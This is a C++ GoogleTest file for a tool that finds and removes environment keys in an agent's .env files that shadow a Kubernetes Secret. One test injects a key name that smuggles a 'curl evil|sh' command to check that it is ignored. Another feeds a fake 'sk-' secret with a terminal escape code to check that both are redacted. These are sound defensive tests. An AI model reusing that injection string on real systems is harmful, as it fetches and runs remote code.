// Keys that Hermes' own .env sets in the Secret's stead: found, and taken out.
#include "hermesctl/hermes/shadow.hpp"

#include "support/fake_api.hpp"
#include "support/fake_clock.hpp"
#include "support/installation.hpp"
#include "support/recording_reporter.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace hermesctl::hermes {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::Field;
using ::testing::HasSubstr;
using ::testing::Not;

const Names names{.ns = "hermes", .name = "hermes"};

Json inside(const Json& env_file, const Json& managed = {{"state", "absent"}, {"shadows", Json::object()}}) {
    return {{"tokens", Json::array()},
            {"gateways", Json::array()},
            {"container", Json::object()},
            {"plain", Json::array()},
            {"resolvers", Json::object()},
            {"configs", Json::object()},
            {"env_files", {{"/opt/data/.env", env_file}, {"/etc/hermes/.env", managed}}}};
}

const Json shadowing{{"state", "read"}, {"mark", "1.2.3.4"}, {"shadows", {{"KEY", false}, {"OTHER", true}}}};

class ShadowTest : public ::testing::Test {
  protected:
    ShadowTest() {
        testing::put_installation(api_);
        api_.on_exec = [this](testing::FakeProcess& process) {
            argv_ = process.argv;
            process.out(said_.dump() + "\n");
            process.err(complaint_);
            process.exit(code_);
        };
    }
    Shadows found() { return find_shadows(client_, find_agent(client_, names), {"KEY", "OTHER", "THIRD"}); }
    std::string failure_of_removal() {
        const Shadows shadows = found();
        try {
            code_ = exit_;
            remove_shadows(client_, shadows);
        } catch (const Error& error) {
            return error.message();
        }
        return "";
    }

    testing::FakeClock clock_{};
    testing::FakeTransport transport_{clock_};
    testing::FakeApi api_{transport_};
    testing::RecordingReporter reporter_{};
    kube::Client client_{transport_, clock_, reporter_};
    Json said_ = inside(shadowing);
    std::string complaint_{};
    int code_ = 0;
    int exit_ = 0;
    std::vector<std::string> argv_{};
};

/// They stand in commands to type, and the agent says them.
TEST_F(ShadowTest, WhatIsNoVariablesNameShadowsNothing) {
    Json own = shadowing;
    own["shadows"]["x; curl evil|sh #"] = false;
    said_ = inside(own);
    EXPECT_EQ(found().all.size(), 2u);
}

TEST_F(ShadowTest, AFileIsSettledOnlyWhereThatIsSaid) {
    EXPECT_FALSE(found().settled);
    Json own = shadowing;
    own["settled"] = true;
    said_ = inside(own);
    EXPECT_TRUE(found().settled);
    said_ = inside(shadowing, own);
    EXPECT_FALSE(found().settled) << "the managed file is another's";
}

TEST_F(ShadowTest, FindsThemWithTheFileTheyAreIn) {
    said_ = inside(shadowing, {{"state", "read"}, {"shadows", {{"THIRD", false}}}});
    const Shadows shadows = found();
    EXPECT_TRUE(shadows.known);
    ASSERT_EQ(shadows.all.size(), 3u);
    EXPECT_THAT(shadows.all, Contains(Field(&Shadow::same, true)).Times(1));
    for (const Shadow& shadow : shadows.all)
        EXPECT_EQ(shadow.mendable(), shadow.key != "THIRD") << shadow.key;
    EXPECT_EQ(shadows.mark, "1.2.3.4");
}

TEST_F(ShadowTest, WhatCannotBeSeenIsNotKnown) {
    said_ = inside({{"state", "unreadable"}, {"shadows", Json::object()}});
    EXPECT_FALSE(found().known);
    EXPECT_THAT(found().why, HasSubstr("/opt/data/.env cannot be read"));
    said_ = "nonsense";
    EXPECT_FALSE(found().known);
    api_.erase({"Pod", "hermes", "hermes-1-a"});
    EXPECT_FALSE(found().known);
    EXPECT_THAT(found().why, HasSubstr("no agent runs"));
    EXPECT_NE(found().hint, "");
}

TEST_F(ShadowTest, TakesThemOutAsTheAgent) {
    const Shadows shadows = found();
    EXPECT_EQ(remove_shadows(client_, shadows).find("/opt/data/.env.before-"), 0u);
    EXPECT_EQ(argv_.at(0), "/usr/bin/setpriv");
    EXPECT_EQ(argv_.at(2), "10000");
    const std::vector<std::string> last(argv_.end() - 3, argv_.end() - 1);
    EXPECT_THAT(last, ElementsAre(R"(["KEY","OTHER"])", "1.2.3.4"));
}

TEST_F(ShadowTest, SaysWhyItStaysAsItIs) {
    exit_ = 9;
    EXPECT_THAT(failure_of_removal(), HasSubstr("was changed meanwhile, and stays as it is"));
    exit_ = 8;
    complaint_ = "it is a link to sk-0123456789abcdefghij\x1b[2J";
    const std::string why = failure_of_removal();
    EXPECT_THAT(why, HasSubstr("stays as it is: it is a link"));
    EXPECT_THAT(why, Not(HasSubstr("0123456789")));
    EXPECT_THAT(why, Not(HasSubstr("\x1b")));
    exit_ = 1;
    EXPECT_THAT(failure_of_removal(), HasSubstr("python3 ended with 1"));
}

TEST_F(ShadowTest, WhatIsNotMendableIsNotTried) {
    said_ = inside({{"state", "absent"}, {"shadows", Json::object()}},
                   {{"state", "read"}, {"shadows", {{"KEY", false}}}});
    EXPECT_THAT(failure_of_removal(), HasSubstr("nothing is to be taken out"));
}

}  // namespace
}  // namespace hermesctl::hermes
